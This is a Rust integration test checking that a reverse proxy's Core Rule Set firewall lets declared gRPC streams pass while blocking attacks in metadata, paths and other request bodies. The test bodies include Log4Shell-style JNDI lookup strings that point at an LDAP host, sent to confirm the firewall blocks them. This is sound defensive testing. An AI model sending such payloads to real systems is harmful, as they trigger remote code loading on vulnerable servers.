//! gRPC behind the Core Rule Set, through the real executable: streams whose bodies an app declared as not inspected pass
//! message by message, everything else of them is judged, and everything else is judged as ever.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test ends at the first surprise")]

use hop3_tests::clients::{BackEnd, installed, run};
use hop3_tests::report::Report;
use hop3_tests::server::Server;
use tokio::process::Command;

/// Answered message by message, or as a stream in one direction.
const PASS: [&str; 10] = [
    "empty_unary",
    "large_unary",
    "client_streaming",
    "server_streaming",
    "ping_pong",
    "empty_stream",
    "cancel_after_first_response",
    "custom_metadata",
    "status_code_and_message",
    "attack_in_messages",
];

fn route(host: &str, upstream: std::net::SocketAddr, waf: &str) -> String {
    format!(
        "[[route]]\nhosts = ['{host}']\nupstream = 'http://{upstream}'\n[route.proxy]\nprotocol = 'h2c'\n\
         [route.waf]\n{waf}\n"
    )
}

/// The certificate that the server shows for a host.
fn certificate(server: &Server, host: &str) -> String {
    let told = server.curl(host, "/", &["--write-out", "%{certs}"]).text;
    let start = told.find("-----BEGIN").unwrap_or_else(|| panic!("no certificate in {told}"));
    told[start..].to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streams_pass_the_core_rule_set_and_attacks_beside_them_do_not() {
    let mut report = Report::new("grpc-inspected");
    let Some(program) = installed("test-clients") else {
        report.skip("all", "there is no Go to build it with");
        return report.print();
    };
    let mut command = Command::new(&program);
    command.arg("serve");
    let back_end = BackEnd::start(command).await;
    let upstream = back_end.address("grpc").unwrap();
    let declared = "[[route.waf.uninspected-bodies]]\ncontent-types = ['application/grpc']";
    let below = format!("{declared}\npath = '/grpc.testing.TestService/'");
    let elsewhere = format!("{declared}\npath = '/shop.Orders/'");
    let routes = [
        route("calls.test", upstream, declared),
        route("below.test", upstream, &below),
        route("elsewhere.test", upstream, &elsewhere),
        route("undeclared.test", upstream, ""),
    ];
    let mut server = Server::start("");
    server.install_crs();
    server.stop();
    server.configure(&routes.concat());
    server.resume();
    let folder = tempfile::tempdir().unwrap();
    let trusted = folder.path().join("trusted.pem");
    let hosts = ["calls.test", "below.test", "elsewhere.test", "undeclared.test"];
    std::fs::write(&trusted, hosts.map(|host| certificate(&server, host)).concat()).unwrap();
    let calls = PASS.map(|case| ("calls.test", case));
    let bounded =
        [("below.test", "ping_pong"), ("elsewhere.test", "refused"), ("undeclared.test", "refused")];
    let attacks =
        ["attack_in_metadata", "attack_in_path"].into_iter().flat_map(|case| hosts.map(|host| (host, case)));
    for (host, case) in calls.into_iter().chain(bounded).chain(attacks) {
        let mut command = Command::new(&program);
        let address = format!("127.0.0.1:{}", server.port("https"));
        command.args(["grpc", &address, trusted.to_str().unwrap(), host, case]);
        let ran = run(command).await;
        if ran.succeeded { report.pass() } else { report.fail(format!("{host} {case}"), ran.errors) }
    }
    // What is no call is read and inspected, or refused where it says that it is one.
    let form = "q=%24%7Bjndi:ldap://203.0.113.1/a%7D";
    let json = "{\"q\": \"${jndi:ldap://203.0.113.1/a}\"}";
    let grpc = "Content-Type: application/grpc";
    let cases: [(&str, u16, &[&str]); 6] = [
        ("a form", 403, &["--http2", "--data", form]),
        ("JSON", 403, &["--http2", "--data", json, "--header", "Content-Type: application/json"]),
        ("another type", 403, &["--http2", "--data", form, "--header", "Content-Type: application/grpcx"]),
        ("HTTP/1.1", 400, &["--http1.1", "--data", form, "--header", grpc, "--header", "TE: trailers"]),
        ("PUT", 400, &["--http2", "-X", "PUT", "--data", form, "--header", grpc, "--header", "TE: trailers"]),
        ("no TE", 400, &["--http2", "--data", form, "--header", grpc]),
    ];
    for (case, status, arguments) in cases {
        let answer = server.curl("calls.test", "/grpc.testing.TestService/EmptyCall", arguments);
        if answer.status == status { report.pass() } else { report.fail(case, answer.text) }
    }
    let unread = "hop3_waf_uninspected_bodies_total{app=\"calls.test\"}";
    let metrics = server.metrics();
    let count = metrics.lines().find_map(|line| line.strip_prefix(unread)?.trim().parse::<u32>().ok());
    if count.is_some_and(|count| count >= 9) {
        report.pass()
    } else {
        report.fail(unread, metrics)
    }
    report.print();
    assert!(report.failed().is_empty(), "{:?}", report.failed());
}
